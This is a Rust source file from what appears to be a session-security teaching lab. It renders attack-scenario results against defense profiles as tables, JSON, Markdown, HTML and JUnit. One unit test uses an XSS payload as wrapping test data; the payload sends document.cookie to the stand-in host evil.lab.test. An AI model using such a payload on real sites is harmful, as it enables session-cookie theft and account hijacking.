//! Rendering results: the coloured matrix for people, JSON for programs,
//! Markdown and a self-contained HTML page for handouts, JUnit XML for CI.
//! Steps and their HTTP are drawn by [`transcript`], which `lesson` shares.

pub mod ablation;
pub mod analysis;
pub mod defenses;
pub mod html;
pub mod junit;
pub mod markdown;
pub mod transcript;

use std::io::IsTerminal;

use colored::Colorize;
use comfy_table::presets::UTF8_FULL_CONDENSED;
use comfy_table::{Cell, CellAlignment, ContentArrangement, Table};
use serde::Serialize;
use sessionlab_attack::{AppTarget, Outcome, RunResult, ScenarioMeta, Step};
use sessionlab_protocol::escape_html;

/// `--format` of `demo`, `attack` and `ablate`: who reads the output.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    /// A coloured matrix and the evidence, for people at a terminal.
    Table,
    /// One JSON object with a `results` array, for programs.
    Json,
    /// A Markdown page, for a wiki, an issue or shared notes.
    Markdown,
    /// A self-contained HTML page (no external assets), to hand out.
    Html,
    /// JUnit XML, for CI: a compromised hardened profile is a failing test.
    Junit,
}

impl Format {
    /// Only the table is for a person watching the terminal: the others are
    /// read by programs or saved to files, so nothing else (progress, hints)
    /// goes with them.
    pub fn is_for_people(self) -> bool {
        self == Self::Table
    }
}

/// `--format` of `list` and `defenses`: listings, not results.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ListFormat {
    /// A table, for people.
    Table,
    /// A JSON array, for programs.
    Json,
    /// A Markdown table, for docs.
    Markdown,
}

/// The results of `demo` or `attack` in any format.
pub fn results(
    command: &str,
    scenarios: &[ScenarioMeta],
    profiles: &[String],
    results: &[RunResult],
    format: Format,
) -> String {
    match format {
        Format::Table => matrix(scenarios, profiles, results),
        Format::Json => format!("{}\n", json(command, results)),
        Format::Markdown => markdown::render(scenarios, profiles, results),
        Format::Html => html::render(
            &format!("sessionlab {command}"),
            scenarios,
            profiles,
            results,
        ),
        Format::Junit => junit::render(results),
    }
}

/// The JSON document `--format json` prints.
#[derive(Serialize)]
pub struct JsonReport<'a> {
    pub tool: &'static str,
    pub version: &'static str,
    pub command: &'a str,
    pub results: &'a [RunResult],
}

pub fn json(command: &str, results: &[RunResult]) -> String {
    let report = JsonReport {
        tool: "sessionlab",
        version: env!("CARGO_PKG_VERSION"),
        command,
        results,
    };
    serde_json::to_string_pretty(&report).expect("results serialise")
}

/// The JSON of `attack --target-file`: the lab's shape plus the `target`
/// (its paths, session cookie and cookie findings; no passwords).
#[derive(Serialize)]
pub struct AppJsonReport<'a> {
    #[serde(flatten)]
    pub report: JsonReport<'a>,
    pub target: &'a AppTarget,
}

/// The results of `attack --target-file` in any format: the lab's reports,
/// with the session cookie's findings after the table and in the JSON.
pub fn app_results(
    scenarios: &[ScenarioMeta],
    profiles: &[String],
    results: &[RunResult],
    app: &AppTarget,
    format: Format,
) -> String {
    match format {
        Format::Json => {
            let report = AppJsonReport {
                report: JsonReport {
                    tool: "sessionlab",
                    version: env!("CARGO_PKG_VERSION"),
                    command: "attack",
                    results,
                },
                target: app,
            };
            format!(
                "{}\n",
                serde_json::to_string_pretty(&report).expect("results serialise")
            )
        }
        Format::Table | Format::Markdown => {
            let mut out = self::results("attack", scenarios, profiles, results, format);
            out.push_str(&cookie_findings(app, format));
            out
        }
        Format::Html => {
            let page = self::results("attack", scenarios, profiles, results, format);
            let findings: String = app
                .findings
                .iter()
                .map(|f| {
                    format!(
                        "<li>{} {} ({}): {}</li>",
                        if f.weak { "✗" } else { "✓" },
                        escape_html(f.attribute),
                        f.cwe,
                        escape_html(&f.finding)
                    )
                })
                .collect();
            let section = format!(
                "<section><h2>The session cookie <code>{}</code></h2><ul>{findings}</ul></section>\n",
                escape_html(&app.session_cookie)
            );
            match page.rfind("</body>") {
                Some(at) => format!("{}{section}{}", &page[..at], &page[at..]),
                None => page + &section,
            }
        }
        Format::Junit => self::results("attack", scenarios, profiles, results, format),
    }
}

/// The session cookie's attributes, one line each, weak ones marked.
fn cookie_findings(app: &AppTarget, format: Format) -> String {
    let mut out = match format {
        Format::Markdown => format!("\n## The session cookie `{}`\n\n", app.session_cookie),
        _ => format!("\n{} {}\n", "session cookie".bold(), app.session_cookie),
    };
    for finding in &app.findings {
        let mark = if finding.weak { "✗" } else { "✓" };
        let line = format!(
            "{mark} {} ({}): {}",
            finding.attribute, finding.cwe, finding.finding
        );
        match format {
            Format::Markdown => out.push_str(&format!("- {line}\n")),
            _ => {
                let line = if finding.weak {
                    line.red().to_string()
                } else {
                    line.green().to_string()
                };
                out.push_str(&hanging("  ", &line));
                out.push('\n');
            }
        }
    }
    out
}

/// The word for an outcome, coloured when colour is on (`main` turns colour
/// off for NO_COLOR, `--color never` and pipes).
pub fn outcome_word(outcome: Outcome) -> String {
    coloured(outcome, outcome_text(outcome))
}

/// [`outcome_word`] padded to one width, so evidence lines stay aligned.
fn outcome_word_padded(outcome: Outcome) -> String {
    coloured(outcome, &format!("{:<13}", outcome_text(outcome)))
}

fn outcome_text(outcome: Outcome) -> &'static str {
    match outcome {
        Outcome::Compromised => "✗ COMPROMISED",
        Outcome::Blocked => "✓ blocked",
        Outcome::Error => "! error",
        Outcome::NotApplicable => "– n/a",
    }
}

pub(crate) fn coloured(outcome: Outcome, text: &str) -> String {
    match outcome {
        Outcome::Compromised => text.red().bold().to_string(),
        Outcome::Blocked => text.green().to_string(),
        Outcome::Error => text.yellow().bold().to_string(),
        Outcome::NotApplicable => text.dimmed().to_string(),
    }
}

/// A table that wraps to the terminal's width, or keeps its natural width when
/// there is no terminal (a pipe, a file) or it reports no usable width.
pub(crate) fn new_table() -> Table {
    let mut table = Table::new();
    if crate::stdout::ascii() {
        table.load_preset(comfy_table::presets::ASCII_FULL_CONDENSED);
    } else {
        table.load_preset(UTF8_FULL_CONDENSED);
    }
    let arrangement = match table.width() {
        Some(width) if width >= 60 => ContentArrangement::Dynamic,
        _ => ContentArrangement::Disabled,
    };
    table.set_content_arrangement(arrangement);
    table
}

/// The scenario × profile matrix, then the evidence of every cell.
pub fn matrix(scenarios: &[ScenarioMeta], profiles: &[String], results: &[RunResult]) -> String {
    let mut table = new_table();
    let mut header = vec![Cell::new("scenario")];
    header.extend(
        profiles
            .iter()
            .map(|p| Cell::new(p).set_alignment(CellAlignment::Center)),
    );
    table.set_header(header);
    for meta in scenarios {
        let mut row = vec![Cell::new(&meta.id)];
        for profile in profiles {
            let word = results
                .iter()
                .find(|r| r.scenario == meta.id && &r.profile == profile)
                .map(|r| outcome_word(r.outcome))
                .unwrap_or_else(|| "-".into());
            row.push(Cell::new(word).set_alignment(CellAlignment::Center));
        }
        table.add_row(row);
    }
    let mut out = format!("{table}\n");
    out.push_str(&evidence(scenarios, results));
    out.push_str(&summary(results));
    out
}

/// Per scenario: its title, then one evidence line per profile.
pub fn evidence(scenarios: &[ScenarioMeta], results: &[RunResult]) -> String {
    let mut out = String::new();
    for meta in scenarios {
        let rows: Vec<&RunResult> = results.iter().filter(|r| r.scenario == meta.id).collect();
        if rows.is_empty() {
            continue;
        }
        out.push_str(&format!(
            "\n{} {}\n",
            meta.id.bold(),
            format!("— {}", meta.title).dimmed()
        ));
        let width = rows
            .iter()
            .map(|r| r.profile.len())
            .max()
            .unwrap_or(0)
            .max(10);
        for r in rows {
            let lead = format!(
                "  {:<width$} {}  ",
                r.profile,
                outcome_word_padded(r.outcome)
            );
            out.push_str(&hanging(&lead, &r.evidence));
            out.push('\n');
        }
    }
    out
}

/// `lead` then `text`, wrapped to the terminal with the text's column kept, so
/// evidence stays readable on a projector. Piped output stays one line per
/// result, for grep.
pub(crate) fn hanging(lead: &str, text: &str) -> String {
    match width() {
        Some(width) => hanging_at(width, lead, text),
        None => format!("{lead}{text}"),
    }
}

/// The width to wrap to: `COLUMNS` when set (a projector's tmux pane, a
/// test), else the terminal's; None when stdout is no terminal and
/// `COLUMNS` is unset (piped output stays one line, for grep).
pub(crate) fn width() -> Option<usize> {
    let columns = std::env::var("COLUMNS")
        .ok()
        .and_then(|c| c.trim().parse::<usize>().ok());
    match columns {
        Some(columns) => Some(columns.max(40)),
        None if std::io::stdout().is_terminal() => Some(textwrap::termwidth().max(60)),
        None => None,
    }
}

/// How far the text of a [`hanging`] paragraph continues in when its lead is
/// too wide to keep the text's column.
const NARROW_INDENT: usize = 4;

/// [`hanging`] at `width` columns. A lead wider than a third of the line would
/// leave the text a sliver of a column (one word per line, or worse): then the
/// text continues [`NARROW_INDENT`] columns in instead. Words never split at
/// their hyphens: ids such as `cookie-only-ids` or `mallory-ef369608@evil.test`
/// stay whole, as the reader must type them.
pub(crate) fn hanging_at(width: usize, lead: &str, text: &str) -> String {
    let lead_width = textwrap::core::display_width(lead);
    let indent = if lead_width > width / 3 {
        " ".repeat(NARROW_INDENT.min(lead_width))
    } else {
        " ".repeat(lead_width)
    };
    // Tokens are never split (below): when not even the text's first word
    // fits after the lead, the text starts on the next line.
    let first_word = text.split_whitespace().next().unwrap_or_default();
    if lead_width + textwrap::core::display_width(first_word) > width {
        let options = textwrap::Options::new(width)
            .initial_indent(&indent)
            .subsequent_indent(&indent)
            .word_splitter(textwrap::WordSplitter::NoHyphenation)
            .break_words(false);
        return format!("{}\n{}", lead.trim_end(), textwrap::fill(text, options));
    }
    let options = textwrap::Options::new(width)
        .initial_indent(lead)
        .subsequent_indent(&indent)
        .word_splitter(textwrap::WordSplitter::NoHyphenation)
        // A token longer than the line overflows it rather than split
        // (`<` `/script>`, `do` `cument.cookie`): copied, it must still work.
        .break_words(false);
    textwrap::fill(text, options)
}

fn summary(results: &[RunResult]) -> String {
    let count = |o: Outcome| results.iter().filter(|r| r.outcome == o).count();
    let not_applicable = match count(Outcome::NotApplicable) {
        0 => String::new(),
        n => format!(", {n} not applicable"),
    };
    format!(
        "\n{} runs: {} compromised, {} blocked, {} error{not_applicable}\n",
        results.len(),
        count(Outcome::Compromised),
        count(Outcome::Blocked),
        count(Outcome::Error)
    )
}

/// `sessionlab list` as a table.
pub fn scenario_list(scenarios: &[ScenarioMeta]) -> String {
    let mut table = new_table();
    table.set_header(vec![
        "#",
        "scenario",
        "title",
        "blocked by",
        "tutorial",
        "references",
    ]);
    for m in scenarios {
        table.add_row(vec![
            m.order.to_string(),
            m.id.clone(),
            m.title.clone(),
            claim(m),
            tutorial_word(m).to_string(),
            m.reference_line(),
        ]);
    }
    format!("{table}\n")
}

/// `sessionlab list` in any listing format.
pub fn scenario_listing(scenarios: &[ScenarioMeta], format: ListFormat) -> String {
    match format {
        ListFormat::Table => scenario_list(scenarios),
        ListFormat::Json => format!(
            "{}\n",
            serde_json::to_string_pretty(scenarios).expect("metadata serialises")
        ),
        ListFormat::Markdown => {
            let mut out = String::from(
                "| # | scenario | title | blocked by | tutorial | references |\n|---|---|---|---|---|---|\n",
            );
            for m in scenarios {
                out.push_str(&format!(
                    "| {} | [{}]({}) | {} | {} | {}: {} | {} |\n",
                    m.order,
                    m.id,
                    m.lesson_path(),
                    markdown::escape(&m.title),
                    markdown::escape(&claim(m)),
                    tutorial_word(m),
                    markdown::escape(&m.tutorial.why),
                    markdown::escape(&m.reference_line())
                ));
            }
            out
        }
    }
}

/// What the tutorial profile does against the scenario, as its file says.
fn tutorial_word(meta: &ScenarioMeta) -> &'static str {
    meta.tutorial.outcome.outcome().as_str()
}

/// A scenario file's defense claim in words: "any of a, b", "all of a, b",
/// "tls + any of a, b", "any of a, b (needs tls)".
pub fn claim(meta: &ScenarioMeta) -> String {
    use sessionlab_attack::catalog::{Layers, Requires};
    let each = |id: &String| match &meta.requires {
        Requires::Each(_) => sessionlab_harness::says::layer(id, meta.requires.of(id)),
        Requires::Every(_) => id.clone(),
    };
    let listed: Vec<String> = meta.blocked_by.iter().map(each).collect();
    let combined = match (listed.len(), meta.layers) {
        (1, _) => listed.join(""),
        (_, Layers::Any) => format!("any of {}", listed.join(", ")),
        (_, Layers::All) => format!("all of {}", listed.join(", ")),
    };
    match &meta.requires {
        Requires::Every(ids) if !ids.is_empty() => format!("{} + {combined}", ids.join(" + ")),
        _ => combined,
    }
}

/// The result of one scenario against one profile, if it ran.
pub(crate) fn cell<'a>(
    results: &'a [RunResult],
    scenario: &str,
    profile: &str,
) -> Option<&'a RunResult> {
    results
        .iter()
        .find(|r| r.scenario == scenario && r.profile == profile)
}

pub(crate) fn steps_of(result: &RunResult) -> &[Step] {
    &result.steps
}

#[cfg(test)]
mod tests {
    use super::hanging_at;

    #[test]
    fn a_wide_lead_does_not_squeeze_the_text_into_a_sliver() {
        let lead = "Removed alone, these reopen nothing here (one layer among several, or they guard other scenarios): ";
        let text =
            "cookie-only-ids, strict-ids, rotate-id-at-login, signed-cookie, referrer-policy";
        let wrapped = hanging_at(80, lead, text);
        // One character per line was the failure: 80 columns hold this in a few lines.
        assert!(wrapped.lines().count() <= 4, "{wrapped}");
        assert!(
            wrapped.lines().all(|line| line.chars().count() <= 100),
            "{wrapped}"
        );
    }

    #[test]
    fn a_token_longer_than_the_line_is_never_split() {
        let text =
            "the body <script>fetch('http://evil.lab.test/c?'+document.cookie)</script> ends";
        for width in 40..70 {
            let wrapped = hanging_at(width, "      body, 80 bytes: ", text);
            let words: Vec<&str> = wrapped.split_whitespace().collect();
            assert!(
                words
                    .contains(&"<script>fetch('http://evil.lab.test/c?'+document.cookie)</script>"),
                "{wrapped}"
            );
        }
    }

    #[test]
    fn ids_never_split_at_their_hyphens() {
        let text = "the page sent email=mallory-ef369608@evil.test and removed cookie-only-ids";
        for width in 60..90 {
            let wrapped = hanging_at(width, "  why    ", text);
            let words: Vec<&str> = wrapped.split_whitespace().collect();
            assert!(
                words.contains(&"email=mallory-ef369608@evil.test"),
                "{wrapped}"
            );
            assert!(words.contains(&"cookie-only-ids"), "{wrapped}");
        }
    }
}
